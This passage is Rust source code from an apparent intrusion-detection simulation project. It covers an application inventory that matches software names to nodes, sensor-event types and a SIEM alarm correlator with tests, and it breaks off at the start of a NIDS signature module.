        assert_eq!(inv.common_keywords(), &["linux".to_owned()]);
    }

    #[test]
    fn apache_matches_only_node4() {
        // The use case: CVE-2017-9805 affects Apache Struts; the only
        // node running apache is node 4.
        let inv = Inventory::paper_table3();
        let m = inv.match_application("apache");
        assert_eq!(m.node_ids(), &[NodeId(4)]);
        assert!(!m.is_common_keyword());
    }

    #[test]
    fn linux_is_common_keyword() {
        let inv = Inventory::paper_table3();
        let m = inv.match_application("Linux");
        assert!(m.is_common_keyword());
        assert_eq!(m.node_ids().len(), 4);
    }

    #[test]
    fn unknown_application_matches_nothing() {
        let inv = Inventory::paper_table3();
        let m = inv.match_application("notepad");
        assert!(!m.is_match());
    }

    #[test]
    fn os_counts_as_application() {
        let inv = Inventory::paper_table3();
        let m = inv.match_application("debian");
        assert_eq!(m.node_ids(), &[NodeId(4)]);
        let m = inv.match_application("ubuntu");
        assert_eq!(m.node_ids().len(), 3);
    }

    #[test]
    fn match_any_unions() {
        let inv = Inventory::paper_table3();
        let m = inv.match_any(&["apache".to_owned(), "gitlab".to_owned()]);
        assert_eq!(m.node_ids(), &[NodeId(2), NodeId(4)]);
    }

    #[test]
    fn node_by_ip() {
        let inv = Inventory::paper_table3();
        assert_eq!(inv.node_by_ip("192.168.1.12").unwrap().name, "GitLab");
        assert!(inv.node_by_ip("10.0.0.1").is_none());
    }

    #[test]
    fn case_insensitive_matching() {
        let inv = Inventory::paper_table3();
        assert!(inv.match_application("Apache Storm").is_match());
        assert!(inv.match_application("OSSEC").is_match());
    }

    #[test]
    fn serde_roundtrip() {
        let inv = Inventory::paper_table3();
        let json = serde_json::to_string(&inv).unwrap();
        let back: Inventory = serde_json::from_str(&json).unwrap();
        assert_eq!(back, inv);
    }

    #[test]
    fn all_applications_deduped() {
        let inv = Inventory::paper_table3();
        let apps = inv.all_applications();
        // "snort" appears on 3 nodes but once in the list.
        assert_eq!(apps.iter().filter(|a| **a == "snort").count(), 1);
    }
}
