//! The system inventory: nodes, their installed applications and
//! operating systems.
//!
//! The paper's reduction step requires "a system inventory containing
//! the nodes, and their installed applications … to perform the match"
//! (Section III-C1), and the use case pins the exact inventory in Table
//! III, including the rule that "if the match is with a common keyword
//! (e.g., Linux), the new rIoC is associated with all nodes".
//!
//! Matching runs over a lazily built, generation-versioned
//! [`MatchIndex`] (see [`crate::index`]): installed names are tokenized
//! once, and each lookup is a few hash probes plus bitset unions
//! instead of a nodes × applications scan. The pre-index linear scan is
//! retained as [`Inventory::match_application_linear`] /
//! [`Inventory::match_any_linear`] — the reference implementation that
//! the `index_equivalence` proptest and the `reduce_scale` benchmark
//! compare against.

use std::collections::BTreeMap;
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;

use serde::{Deserialize, Serialize};

use crate::index::MatchIndex;

/// A stable node identifier within an inventory.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct NodeId(pub u32);

impl fmt::Display for NodeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "node-{}", self.0)
    }
}

/// The role of a node, shown in the dashboard's node-details tab.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum NodeType {
    /// A server machine.
    Server,
    /// An end-user workstation.
    Workstation,
}

/// One machine in the monitored infrastructure.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Node {
    /// Stable identifier.
    pub id: NodeId,
    /// Display name (for example `OwnCloud` or `XL-SIEM`).
    pub name: String,
    /// Server or workstation.
    pub node_type: NodeType,
    /// Installed applications, lowercase.
    pub applications: Vec<String>,
    /// Operating system, lowercase.
    pub operating_system: String,
    /// IPv4 addresses assigned to the node.
    pub ip_addresses: Vec<String>,
    /// Networks the node is connected to (`LAN`, `WAN`, …).
    pub networks: Vec<String>,
}

impl Node {
    /// Whether the node has the application installed.
    ///
    /// Matching is case-insensitive and word-based in both directions:
    /// the paper's use case matches the IoC's "Apache Struts" against
    /// node 4's installed "apache" — the inventory name's words must be
    /// a subset of the candidate's words or vice versa. The node's
    /// operating system counts as an installed application.
    pub fn has_application(&self, application: &str) -> bool {
        let needle = application.to_ascii_lowercase();
        self.applications
            .iter()
            .chain(std::iter::once(&self.operating_system))
            .any(|installed| words_overlap(installed, &needle))
    }
}

/// The canonical form every inventory name is stored in: trimmed and
/// ASCII-lowercased. All construction paths — the builder, mutation
/// methods and deserialization — normalize through here, so the `Node`
/// docs' "lowercase" promise holds no matter how the inventory was
/// built, and matchers never re-normalize the installed side.
pub(crate) fn normalize_name(name: &str) -> String {
    name.trim().to_ascii_lowercase()
}

/// Whether one name's words are a subset of the other's.
fn words_overlap(a: &str, b: &str) -> bool {
    if a == b {
        return true;
    }
    let a_words: Vec<&str> = a.split_whitespace().collect();
    let b_words: Vec<&str> = b.split_whitespace().collect();
    if a_words.is_empty() || b_words.is_empty() {
        return false;
    }
    a_words.iter().all(|w| b_words.contains(w)) || b_words.iter().all(|w| a_words.contains(w))
}

/// The result of matching an application/keyword against the inventory.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApplicationMatch {
    node_ids: Vec<NodeId>,
    common_keyword: bool,
}

impl ApplicationMatch {
    /// Assembles a match result (node ids must be ascending).
    pub(crate) fn from_parts(node_ids: Vec<NodeId>, common_keyword: bool) -> Self {
        ApplicationMatch {
            node_ids,
            common_keyword,
        }
    }

    /// Nodes the application matched (all nodes for a common keyword).
    pub fn node_ids(&self) -> &[NodeId] {
        &self.node_ids
    }

    /// Whether the match was via a common keyword such as `linux`.
    pub fn is_common_keyword(&self) -> bool {
        self.common_keyword
    }

    /// Whether anything matched at all.
    pub fn is_match(&self) -> bool {
        !self.node_ids.is_empty()
    }
}

/// Lazily built index state: rebuilt on first use after every
/// mutation, with a monotone rebuild counter surviving invalidations
/// (surfaced as the `reduce_index_rebuilds` telemetry gauge).
#[derive(Debug, Default)]
struct IndexCell {
    built: OnceLock<MatchIndex>,
    rebuilds: AtomicU64,
}

/// Serialized form of [`Inventory`]: the data, without the index cache
/// or generation counter. Deserialization re-normalizes every name, so
/// mixed-case inventories loaded from JSON match correctly.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct InventoryWire {
    nodes: BTreeMap<NodeId, Node>,
    common_keywords: Vec<String>,
}

/// The inventory of the monitored infrastructure.
///
/// Construct with [`Inventory::builder`] or use the paper's Table III
/// fixture via [`Inventory::paper_table3`]. Mutating methods
/// ([`Inventory::add_node`], [`Inventory::install_application`],
/// [`Inventory::add_common_keyword`]) bump a generation counter and
/// drop the cached [`MatchIndex`], which rebuilds lazily on the next
/// match.
#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(try_from = "InventoryWire", into = "InventoryWire")]
pub struct Inventory {
    nodes: BTreeMap<NodeId, Node>,
    /// Keywords that match *all* nodes (Table III's "All Nodes: linux").
    common_keywords: Vec<String>,
    /// Bumped by every mutation; lets long-lived consumers (for
    /// example the reducer's match memo) detect staleness cheaply.
    generation: u64,
    cache: IndexCell,
}

impl Clone for Inventory {
    fn clone(&self) -> Self {
        Inventory {
            nodes: self.nodes.clone(),
            common_keywords: self.common_keywords.clone(),
            generation: self.generation,
            cache: IndexCell::default(),
        }
    }
}

impl PartialEq for Inventory {
    fn eq(&self, other: &Self) -> bool {
        self.nodes == other.nodes && self.common_keywords == other.common_keywords
    }
}

impl From<Inventory> for InventoryWire {
    fn from(inventory: Inventory) -> Self {
        InventoryWire {
            nodes: inventory.nodes,
            common_keywords: inventory.common_keywords,
        }
    }
}

// A `From` impl (normalization cannot fail); serde's `try_from` path
// uses the blanket `TryFrom` with `Infallible` as the error.
impl From<InventoryWire> for Inventory {
    fn from(mut wire: InventoryWire) -> Self {
        for node in wire.nodes.values_mut() {
            for app in &mut node.applications {
                *app = normalize_name(app);
            }
            node.operating_system = normalize_name(&node.operating_system);
        }
        for keyword in &mut wire.common_keywords {
            *keyword = normalize_name(keyword);
        }
        Inventory {
            nodes: wire.nodes,
            common_keywords: wire.common_keywords,
            generation: 0,
            cache: IndexCell::default(),
        }
    }
}

impl Inventory {
    /// Starts building an inventory.
    pub fn builder() -> InventoryBuilder {
        InventoryBuilder {
            inventory: Inventory::default(),
            next_id: 1,
        }
    }

    /// The inventory of the paper's Table III: four nodes (OwnCloud,
    /// GitLab and two XL-SIEM machines) plus the common keyword `linux`.
    pub fn paper_table3() -> Self {
        let mut builder = Inventory::builder();
        builder
            .node("OwnCloud", NodeType::Server, "ubuntu")
            .applications(&[
                "ubuntu", "owncloud", "ossec", "snort", "suricata", "nids", "hids",
            ])
            .ip("192.168.1.11")
            .network("LAN");
        builder
            .node("GitLab", NodeType::Server, "ubuntu")
            .applications(&[
                "ubuntu", "gitlab", "ossec", "snort", "suricata", "nids", "hids",
            ])
            .ip("192.168.1.12")
            .network("LAN");
        builder
            .node("XL-SIEM", NodeType::Server, "ubuntu")
            .applications(&["ubuntu", "snort", "suricata", "nids", "php"])
            .ip("192.168.1.13")
            .network("LAN");
        builder
            .node("XL-SIEM", NodeType::Server, "debian")
            .applications(&[
                "debian",
                "apache",
                "apache storm",
                "apache zookeeper",
                "server",
            ])
            .ip("192.168.1.14")
            .network("LAN")
            .network("WAN");
        builder.common_keyword("linux");
        builder.build()
    }

    /// All nodes, ordered by id.
    pub fn nodes(&self) -> impl Iterator<Item = &Node> {
        self.nodes.values()
    }

    /// Number of nodes.
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    /// Whether the inventory has no nodes.
    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }

    /// Looks up a node.
    pub fn node(&self, id: NodeId) -> Option<&Node> {
        self.nodes.get(&id)
    }

    /// Finds the node owning an IP address.
    pub fn node_by_ip(&self, ip: &str) -> Option<&Node> {
        self.nodes
            .values()
            .find(|n| n.ip_addresses.iter().any(|a| a == ip))
    }

    /// The configured common keywords.
    pub fn common_keywords(&self) -> &[String] {
        &self.common_keywords
    }

    /// The mutation generation: starts at 0 and increments on every
    /// [`Inventory::add_node`], [`Inventory::install_application`] or
    /// [`Inventory::add_common_keyword`]. Consumers caching derived
    /// state compare generations instead of deep-comparing contents.
    pub fn generation(&self) -> u64 {
        self.generation
    }

    /// How many times the match index has been (re)built over this
    /// inventory's lifetime.
    pub fn index_rebuilds(&self) -> u64 {
        self.cache.rebuilds.load(Ordering::Relaxed)
    }

    /// The tokenized inverted match index for the current generation,
    /// built on first use and after every mutation.
    pub fn index(&self) -> &MatchIndex {
        self.cache.built.get_or_init(|| {
            self.cache.rebuilds.fetch_add(1, Ordering::Relaxed);
            MatchIndex::build(self)
        })
    }

    /// Adds a node after construction, returning its id. Bumps the
    /// generation and invalidates the match index.
    pub fn add_node(
        &mut self,
        name: impl Into<String>,
        node_type: NodeType,
        operating_system: impl Into<String>,
    ) -> NodeId {
        let id = NodeId(self.nodes.keys().next_back().map_or(0, |n| n.0) + 1);
        self.nodes.insert(
            id,
            Node {
                id,
                name: name.into(),
                node_type,
                applications: Vec::new(),
                operating_system: normalize_name(&operating_system.into()),
                ip_addresses: Vec::new(),
                networks: Vec::new(),
            },
        );
        self.invalidate();
        id
    }

    /// Installs an application on an existing node, returning whether
    /// the node exists. Bumps the generation and invalidates the match
    /// index.
    pub fn install_application(&mut self, id: NodeId, application: impl Into<String>) -> bool {
        let Some(node) = self.nodes.get_mut(&id) else {
            return false;
        };
        node.applications.push(normalize_name(&application.into()));
        self.invalidate();
        true
    }

    /// Registers a keyword that matches every node. Bumps the
    /// generation and invalidates the match index.
    pub fn add_common_keyword(&mut self, keyword: impl Into<String>) {
        self.common_keywords.push(normalize_name(&keyword.into()));
        self.invalidate();
    }

    /// Drops the cached index and bumps the generation; the rebuild
    /// counter carries over so telemetry sees every build.
    fn invalidate(&mut self) {
        self.generation += 1;
        let rebuilds = self.cache.rebuilds.load(Ordering::Relaxed);
        self.cache = IndexCell {
            built: OnceLock::new(),
            rebuilds: AtomicU64::new(rebuilds),
        };
    }

    /// Matches an application or keyword against the inventory,
    /// implementing the paper's three-way rule: no match → empty;
    /// common keyword → all nodes; otherwise → the owning nodes.
    ///
    /// Served by the [`MatchIndex`]; equivalent to
    /// [`Inventory::match_application_linear`] on every input.
    pub fn match_application(&self, application: &str) -> ApplicationMatch {
        self.index().match_application(application)
    }

    /// Matches several candidate names at once, unioning the results
    /// (used when an IoC lists multiple affected applications/OSes).
    pub fn match_any<S: AsRef<str>>(&self, candidates: &[S]) -> ApplicationMatch {
        self.index().match_any(candidates)
    }

    /// The pre-index reference matcher: a linear scan over nodes ×
    /// installed names with per-call word splitting. Kept as the
    /// behavioural baseline for the `index_equivalence` proptest and
    /// the `reduce_scale` benchmark; production paths use
    /// [`Inventory::match_application`].
    pub fn match_application_linear(&self, application: &str) -> ApplicationMatch {
        let needle = application.trim().to_ascii_lowercase();
        if self.common_keywords.contains(&needle) {
            return ApplicationMatch {
                node_ids: self.nodes.keys().copied().collect(),
                common_keyword: true,
            };
        }
        let node_ids: Vec<NodeId> = self
            .nodes
            .values()
            .filter(|n| n.has_application(&needle))
            .map(|n| n.id)
            .collect();
        ApplicationMatch {
            node_ids,
            common_keyword: false,
        }
    }

    /// Linear-scan union matcher; the reference implementation of
    /// [`Inventory::match_any`].
    pub fn match_any_linear<S: AsRef<str>>(&self, candidates: &[S]) -> ApplicationMatch {
        let mut node_ids: Vec<NodeId> = Vec::new();
        let mut common = false;
        for candidate in candidates {
            let m = self.match_application_linear(candidate.as_ref());
            common |= m.is_common_keyword();
            for id in m.node_ids() {
                if !node_ids.contains(id) {
                    node_ids.push(*id);
                }
            }
        }
        node_ids.sort_unstable();
        ApplicationMatch {
            node_ids,
            common_keyword: common,
        }
    }

    /// Every distinct application name installed anywhere, sorted
    /// (operating systems excluded). Served by the index, so repeated
    /// calls — the reducer scans this list per description — do not
    /// re-collect or re-sort.
    pub fn all_applications(&self) -> Vec<&str> {
        self.index()
            .application_names()
            .iter()
            .map(String::as_str)
            .collect()
    }
}

/// Builder for [`Inventory`].
#[derive(Debug)]
pub struct InventoryBuilder {
    inventory: Inventory,
    next_id: u32,
}

impl InventoryBuilder {
    /// Adds a node, returning a scoped builder for its details.
    pub fn node(
        &mut self,
        name: impl Into<String>,
        node_type: NodeType,
        operating_system: impl Into<String>,
    ) -> NodeBuilder<'_> {
        let id = NodeId(self.next_id);
        self.next_id += 1;
        self.inventory.nodes.insert(
            id,
            Node {
                id,
                name: name.into(),
                node_type,
                applications: Vec::new(),
                operating_system: normalize_name(&operating_system.into()),
                ip_addresses: Vec::new(),
                networks: Vec::new(),
            },
        );
        NodeBuilder {
            node: self.inventory.nodes.get_mut(&id).expect("just inserted"),
        }
    }

    /// Registers a keyword that matches every node.
    pub fn common_keyword(&mut self, keyword: impl Into<String>) -> &mut Self {
        self.inventory
            .common_keywords
            .push(normalize_name(&keyword.into()));
        self
    }

    /// Finishes the inventory.
    pub fn build(self) -> Inventory {
        self.inventory
    }
}

/// Scoped builder configuring one node.
#[derive(Debug)]
pub struct NodeBuilder<'a> {
    node: &'a mut Node,
}

impl NodeBuilder<'_> {
    /// Adds one installed application.
    pub fn application(&mut self, application: impl Into<String>) -> &mut Self {
        self.node
            .applications
            .push(normalize_name(&application.into()));
        self
    }

    /// Adds several installed applications.
    pub fn applications(&mut self, applications: &[&str]) -> &mut Self {
        for app in applications {
            self.application(*app);
        }
        self
    }

    /// Adds an IP address.
    pub fn ip(&mut self, ip: impl Into<String>) -> &mut Self {
        self.node.ip_addresses.push(ip.into());
        self
    }

    /// Adds a connected network.
    pub fn network(&mut self, network: impl Into<String>) -> &mut Self {
        self.node.networks.push(network.into());
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table3_shape() {
        let inv = Inventory::paper_table3();
        assert_eq!(inv.len(), 4);
        let names: Vec<&str> = inv.nodes().map(|n| n.name.as_str()).collect();
        assert_eq!(names, vec!["OwnCloud", "GitLab", "XL-SIEM", "XL-SIEM"]);
        assert_eq!(inv.common_keywords(), &["linux".to_owned()]);
    }

    #[test]
    fn apache_matches_only_node4() {
        // The use case: CVE-2017-9805 affects Apache Struts; the only
        // node running apache is node 4.
        let inv = Inventory::paper_table3();
        let m = inv.match_application("apache");
        assert_eq!(m.node_ids(), &[NodeId(4)]);
        assert!(!m.is_common_keyword());
    }

    #[test]
    fn linux_is_common_keyword() {
        let inv = Inventory::paper_table3();
        let m = inv.match_application("Linux");
        assert!(m.is_common_keyword());
        assert_eq!(m.node_ids().len(), 4);
    }

    #[test]
    fn unknown_application_matches_nothing() {
        let inv = Inventory::paper_table3();
        let m = inv.match_application("notepad");
        assert!(!m.is_match());
    }

    #[test]
    fn os_counts_as_application() {
        let inv = Inventory::paper_table3();
        let m = inv.match_application("debian");
        assert_eq!(m.node_ids(), &[NodeId(4)]);
        let m = inv.match_application("ubuntu");
        assert_eq!(m.node_ids().len(), 3);
    }

    #[test]
    fn match_any_unions() {
        let inv = Inventory::paper_table3();
        let m = inv.match_any(&["apache".to_owned(), "gitlab".to_owned()]);
        assert_eq!(m.node_ids(), &[NodeId(2), NodeId(4)]);
    }

    #[test]
    fn match_any_accepts_borrowed_candidates() {
        let inv = Inventory::paper_table3();
        let m = inv.match_any(&["apache", "gitlab"]);
        assert_eq!(m.node_ids(), &[NodeId(2), NodeId(4)]);
    }

    #[test]
    fn node_by_ip() {
        let inv = Inventory::paper_table3();
        assert_eq!(inv.node_by_ip("192.168.1.12").unwrap().name, "GitLab");
        assert!(inv.node_by_ip("10.0.0.1").is_none());
    }

    #[test]
    fn case_insensitive_matching() {
        let inv = Inventory::paper_table3();
        assert!(inv.match_application("Apache Storm").is_match());
        assert!(inv.match_application("OSSEC").is_match());
    }

    #[test]
    fn serde_roundtrip() {
        let inv = Inventory::paper_table3();
        let json = serde_json::to_string(&inv).unwrap();
        let back: Inventory = serde_json::from_str(&json).unwrap();
        assert_eq!(back, inv);
    }

    #[test]
    fn all_applications_deduped() {
        let inv = Inventory::paper_table3();
        let apps = inv.all_applications();
        // "snort" appears on 3 nodes but once in the list.
        assert_eq!(apps.iter().filter(|a| **a == "snort").count(), 1);
    }

    #[test]
    fn builder_normalizes_case_and_whitespace() {
        // Regression: the Node docs promise lowercase fields, so
        // mixed-case inventory entries must still match.
        let mut builder = Inventory::builder();
        builder
            .node("dev", NodeType::Server, "  Debian  ")
            .application("Apache Struts");
        let mut builder2 = builder;
        builder2.common_keyword(" LINUX ");
        let inv = builder2.build();
        let node = inv.nodes().next().unwrap();
        assert_eq!(node.applications, vec!["apache struts".to_owned()]);
        assert_eq!(node.operating_system, "debian");
        assert_eq!(inv.common_keywords(), &["linux".to_owned()]);
        assert!(inv.match_application("apache struts").is_match());
        assert!(inv.match_application_linear("apache struts").is_match());
        assert!(inv.match_application("Linux").is_common_keyword());
    }

    #[test]
    fn deserialized_mixed_case_inventory_matches() {
        // Regression: an inventory loaded from JSON with mixed-case
        // entries is normalized on deserialization, so "Apache Struts"
        // installed matches the candidate "apache struts" in both the
        // indexed and linear matchers.
        let json = serde_json::json!({
            "nodes": {
                "7": {
                    "id": 7,
                    "name": "legacy",
                    "node_type": "server",
                    "applications": ["Apache Struts", "  GitLab "],
                    "operating_system": "Ubuntu",
                    "ip_addresses": [],
                    "networks": [],
                }
            },
            "common_keywords": ["Linux"],
        });
        let inv: Inventory = serde_json::from_value(json).unwrap();
        assert_eq!(
            inv.match_application("apache struts").node_ids(),
            &[NodeId(7)]
        );
        assert_eq!(
            inv.match_application_linear("apache struts").node_ids(),
            &[NodeId(7)]
        );
        assert!(inv.match_application("ubuntu").is_match());
        assert!(inv.match_application("linux").is_common_keyword());
    }

    #[test]
    fn mutation_bumps_generation_and_rebuilds_index() {
        let mut inv = Inventory::paper_table3();
        assert_eq!(inv.generation(), 0);
        assert_eq!(inv.index_rebuilds(), 0);
        assert!(!inv.match_application("redis").is_match());
        assert_eq!(inv.index_rebuilds(), 1);

        assert!(inv.install_application(NodeId(1), "Redis"));
        assert_eq!(inv.generation(), 1);
        // The index rebuilds lazily and now sees the new application.
        assert_eq!(inv.match_application("redis").node_ids(), &[NodeId(1)]);
        assert_eq!(inv.index_rebuilds(), 2);

        let id = inv.add_node("edge", NodeType::Workstation, "Alpine");
        assert!(inv.install_application(id, "nginx"));
        inv.add_common_keyword("Posix");
        assert_eq!(inv.generation(), 4);
        assert_eq!(inv.match_application("nginx").node_ids(), &[id]);
        assert!(inv.match_application("POSIX").is_common_keyword());
        assert!(!inv.install_application(NodeId(99), "ghost"));
    }

    #[test]
    fn clone_rebuilds_its_own_index() {
        let inv = Inventory::paper_table3();
        let _ = inv.match_application("apache");
        let cloned = inv.clone();
        assert_eq!(cloned.index_rebuilds(), 0);
        assert_eq!(cloned.match_application("apache").node_ids(), &[NodeId(4)]);
        assert_eq!(cloned, inv);
    }
}
