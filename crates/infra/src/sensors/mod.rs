//! Sensor simulators: NIDS (Snort/Suricata-style) and HIDS
//! (OSSEC-style) engines plus the SIEM correlator that turns their
//! events into alarms.
//!
//! Table III's nodes run `snort`, `suricata`, `ossec`, `nids` and
//! `hids`; these modules are those sensors. They consume synthetic
//! traffic/logs (generated, seeded) and emit [`SensorEvent`]s, which the
//! [`siem::SiemCorrelator`] aggregates into [`crate::Alarm`]s and
//! records into the [`crate::SightingStore`].

pub mod hids;
pub mod nids;
pub mod siem;

use cais_common::{Observable, Timestamp};
use serde::{Deserialize, Serialize};

use crate::alarm::AlarmSeverity;
use crate::inventory::NodeId;

/// One event emitted by a sensor.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SensorEvent {
    /// When the event occurred.
    pub at: Timestamp,
    /// The reporting sensor (`snort`, `suricata`, `ossec`).
    pub sensor: String,
    /// The node involved, when attributable.
    pub node: Option<NodeId>,
    /// Event severity.
    pub severity: AlarmSeverity,
    /// Human-readable message.
    pub message: String,
    /// Source IP, when network-related.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub source_ip: Option<String>,
    /// Destination IP, when network-related.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub destination_ip: Option<String>,
    /// Application involved, when known.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub application: Option<String>,
    /// Observables carried by the event (IPs, domains, hashes) — these
    /// feed the sighting store.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub observables: Vec<Observable>,
}
