//! The SIEM correlator: sensor events → deduplicated, escalated alarms.
//!
//! This plays the role of the XL-SIEM nodes in Table III: it consumes
//! [`SensorEvent`]s from the NIDS/HIDS engines, suppresses repeats of
//! the same finding within a correlation window, escalates severity when
//! a finding repeats enough, and records every carried observable into
//! the [`SightingStore`].

use std::collections::HashMap;

use cais_common::Timestamp;

use super::SensorEvent;
use crate::alarm::{Alarm, AlarmSeverity};
use crate::inventory::NodeId;
use crate::sightings::SightingStore;

/// Correlation configuration.
#[derive(Debug, Clone)]
pub struct SiemConfig {
    /// Repeats of one finding within the window collapse into one alarm.
    pub window_millis: i64,
    /// Repeat count at which severity escalates one level.
    pub escalation_threshold: u32,
}

impl Default for SiemConfig {
    fn default() -> Self {
        SiemConfig {
            window_millis: 60_000,
            escalation_threshold: 5,
        }
    }
}

#[derive(Debug)]
struct OpenFinding {
    alarm_index: usize,
    window_start: Timestamp,
    count: u32,
}

/// The stateful correlator.
#[derive(Debug)]
pub struct SiemCorrelator {
    config: SiemConfig,
    alarms: Vec<Alarm>,
    open: HashMap<(Option<NodeId>, String), OpenFinding>,
    next_alarm_id: u64,
    suppressed: u64,
}

impl SiemCorrelator {
    /// Creates a correlator with the given configuration.
    pub fn new(config: SiemConfig) -> Self {
        SiemCorrelator {
            config,
            alarms: Vec::new(),
            open: HashMap::new(),
            next_alarm_id: 1,
            suppressed: 0,
        }
    }

    /// Ingests one sensor event, recording observables into `sightings`
    /// and returning the index of the alarm it produced or refreshed.
    pub fn ingest(&mut self, event: &SensorEvent, sightings: &SightingStore) -> usize {
        for observable in &event.observables {
            sightings.record(observable, event.at, event.node, &event.sensor);
        }
        let key = (event.node, event.message.clone());
        if let Some(open) = self.open.get_mut(&key) {
            if event.at.millis_since(open.window_start) <= self.config.window_millis {
                open.count += 1;
                self.suppressed += 1;
                let alarm = &mut self.alarms[open.alarm_index];
                alarm.description = format!("{} (x{})", event.message, open.count);
                // Escalate once, when the repeat count crosses the
                // threshold.
                if open.count == self.config.escalation_threshold {
                    alarm.severity = escalate(alarm.severity);
                }
                return open.alarm_index;
            }
        }
        let alarm = Alarm::new(
            self.next_alarm_id,
            event.node.unwrap_or(NodeId(0)),
            event.severity,
            event.source_ip.clone().unwrap_or_else(|| "-".into()),
            event.destination_ip.clone().unwrap_or_else(|| "-".into()),
            event.message.clone(),
            event.sensor.clone(),
            event.at,
        );
        let alarm = match &event.application {
            Some(app) => alarm.with_application(app.clone()),
            None => alarm,
        };
        self.next_alarm_id += 1;
        self.alarms.push(alarm);
        let index = self.alarms.len() - 1;
        self.open.insert(
            key,
            OpenFinding {
                alarm_index: index,
                window_start: event.at,
                count: 1,
            },
        );
        index
    }

    /// Ingests a batch of events.
    pub fn ingest_all(&mut self, events: &[SensorEvent], sightings: &SightingStore) {
        for event in events {
            self.ingest(event, sightings);
        }
    }

    /// The correlated alarms, in creation order.
    pub fn alarms(&self) -> &[Alarm] {
        &self.alarms
    }

    /// Number of raw events suppressed into existing alarms.
    pub fn suppressed_count(&self) -> u64 {
        self.suppressed
    }
}

impl Default for SiemCorrelator {
    fn default() -> Self {
        SiemCorrelator::new(SiemConfig::default())
    }
}

fn escalate(severity: AlarmSeverity) -> AlarmSeverity {
    match severity {
        AlarmSeverity::Low => AlarmSeverity::Medium,
        AlarmSeverity::Medium | AlarmSeverity::High => AlarmSeverity::High,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Observable, ObservableKind};

    fn event(at_secs: i64, message: &str, severity: AlarmSeverity) -> SensorEvent {
        SensorEvent {
            at: Timestamp::from_unix_secs(at_secs),
            sensor: "suricata".into(),
            node: Some(NodeId(4)),
            severity,
            message: message.into(),
            source_ip: Some("203.0.113.9".into()),
            destination_ip: Some("192.168.1.14".into()),
            application: Some("apache struts".into()),
            observables: vec![Observable::new(ObservableKind::Ipv4, "203.0.113.9")],
        }
    }

    #[test]
    fn repeats_collapse_within_window() {
        let mut siem = SiemCorrelator::default();
        let sightings = SightingStore::new();
        for i in 0..3 {
            siem.ingest(&event(i, "struts rce", AlarmSeverity::High), &sightings);
        }
        assert_eq!(siem.alarms().len(), 1);
        assert_eq!(siem.suppressed_count(), 2);
        assert!(siem.alarms()[0].description.contains("x3"));
    }

    #[test]
    fn new_window_opens_new_alarm() {
        let mut siem = SiemCorrelator::default();
        let sightings = SightingStore::new();
        siem.ingest(&event(0, "struts rce", AlarmSeverity::High), &sightings);
        siem.ingest(&event(120, "struts rce", AlarmSeverity::High), &sightings);
        assert_eq!(siem.alarms().len(), 2);
    }

    #[test]
    fn severity_escalates_on_repeats() {
        let mut siem = SiemCorrelator::new(SiemConfig {
            window_millis: 600_000,
            escalation_threshold: 5,
        });
        let sightings = SightingStore::new();
        for i in 0..6 {
            siem.ingest(&event(i, "brute force", AlarmSeverity::Low), &sightings);
        }
        assert_eq!(siem.alarms().len(), 1);
        assert_eq!(siem.alarms()[0].severity, AlarmSeverity::Medium);
    }

    #[test]
    fn different_messages_do_not_collapse() {
        let mut siem = SiemCorrelator::default();
        let sightings = SightingStore::new();
        siem.ingest(&event(0, "finding A", AlarmSeverity::Low), &sightings);
        siem.ingest(&event(0, "finding B", AlarmSeverity::Low), &sightings);
        assert_eq!(siem.alarms().len(), 2);
    }

    #[test]
    fn observables_land_in_sighting_store() {
        let mut siem = SiemCorrelator::default();
        let sightings = SightingStore::new();
        siem.ingest(&event(0, "struts rce", AlarmSeverity::High), &sightings);
        assert!(sightings.has_seen(&Observable::new(ObservableKind::Ipv4, "203.0.113.9")));
    }

    #[test]
    fn end_to_end_with_generators() {
        use crate::inventory::Inventory;
        use crate::sensors::{hids, nids};

        let inv = Inventory::paper_table3();
        let sightings = SightingStore::new();
        let mut siem = SiemCorrelator::default();

        let packets = nids::generate_traffic(11, 400, 0.15, &inv, Timestamp::EPOCH);
        let nids_engine = nids::NidsEngine::with_default_rules("suricata");
        siem.ingest_all(&nids_engine.inspect_all(&packets, &inv), &sightings);

        let logs = hids::generate_logs(11, 400, 0.1, &inv, Timestamp::EPOCH);
        let hids_engine = hids::HidsEngine::with_default_rules("ossec");
        siem.ingest_all(&hids_engine.inspect_all(&logs), &sightings);

        assert!(!siem.alarms().is_empty());
        assert!(sightings.distinct_observables() > 0);
        // Correlation must have compressed something.
        assert!(siem.suppressed_count() > 0);
    }
}
