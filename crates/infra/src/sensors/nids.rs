//! A network intrusion-detection engine in the style of Snort/Suricata:
//! signature rules over packets, plus a seeded traffic generator.

use cais_common::{Observable, ObservableKind, Timestamp};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

use super::SensorEvent;
use crate::alarm::AlarmSeverity;
use crate::inventory::{Inventory, NodeId};

/// A simplified network packet (the fields signatures inspect).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Packet {
    /// Capture timestamp.
    pub at: Timestamp,
    /// Source IPv4 address.
    pub src_ip: String,
    /// Destination IPv4 address.
    pub dst_ip: String,
    /// Destination port.
    pub dst_port: u16,
    /// Decoded payload excerpt.
    pub payload: String,
}

/// A detection signature.
///
/// All present conditions must hold (logical AND), mirroring Snort rule
/// options.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
